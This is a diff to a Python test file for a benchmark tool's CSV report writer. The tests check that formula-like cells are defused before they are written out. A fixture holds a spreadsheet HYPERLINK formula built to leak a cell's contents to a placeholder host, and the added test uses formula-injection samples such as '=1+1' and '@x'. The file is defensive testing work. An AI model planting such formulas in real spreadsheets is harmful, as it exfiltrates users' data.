@@ -6,6 +6,7 @@ spreadsheet runs it), and U+202E and friends passed raw into the HTML, the Markd
 
 from __future__ import annotations
 
+import csv
 import io
 from dataclasses import replace
 from pathlib import Path
@@ -27,9 +28,9 @@ from claimbench.records import NUMERIC_CONSISTENCY, Verdict
 from claimbench.report.html import render_html
 from claimbench.report.json import predictions_csv, read_predictions_csv, spooled_parquet, write_parquet
 from claimbench.report.markdown import render_markdown
-from claimbench.report.model import Prediction, Report
+from claimbench.report.model import Prediction, Report, prediction_line
 from claimbench.run.cache import CacheScope
-from claimbench.run.streaming import Finish
+from claimbench.run.streaming import Finish, Spool
 from tests.report_fixtures import sample_report
 
 HYPERLINK = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'
@@ -177,3 +178,31 @@ def test_revealing_stream_passes_tty_and_restores_stdio() -> None:
         with revealing_stdio():  # nesting does not wrap twice
             assert not isinstance(sys.stdout.target, RevealingStream)  # type: ignore[attr-defined]
     assert (sys.stdout, sys.stderr) == before
+
+
+def test_a_held_dataset_s_rows_in_a_mixed_run_s_spool_are_defused_too(tmp_path: Path) -> None:
+    """The spool writes a dataset loaded whole with the same formatter as predictions.csv (not raw cells)."""
+    with Spool(tmp_path / "spool.csv") as spool:
+        spool.write(FORMULAS)
+    assert (tmp_path / "spool.csv").read_text(encoding="utf-8") == predictions_csv(FORMULAS)
+
+
+_CELL = st.text(st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=12) | st.sampled_from(
+    ["=1+1", "@x", "+", "-", "a,b", 'say "hi"', "two\nlines", "cr\rlf", "\r\n", ""]
+)
+
+
+@given(cells=st.lists(_CELL, min_size=9, max_size=9), score=st.none() | st.floats(allow_nan=False))
+def test_a_prediction_line_is_what_csv_writer_writes_of_the_defused_cells(
+    cells: list[str], score: float | None
+) -> None:
+    dataset, task, item_id, checker, gold, predicted, error, explanation, cluster = cells
+    line = prediction_line(
+        dataset, task, item_id, checker, gold, predicted, score, error, explanation, cluster
+    )
+    expected = io.StringIO()
+    row = [defuse_formula(c) for c in (dataset, task, item_id, checker, gold, predicted)]
+    row += ["" if score is None else repr(score)]
+    row += [defuse_formula(c) for c in (error, explanation, cluster)]
+    csv.writer(expected, lineterminator="\n").writerow(row)
+    assert line == expected.getvalue()
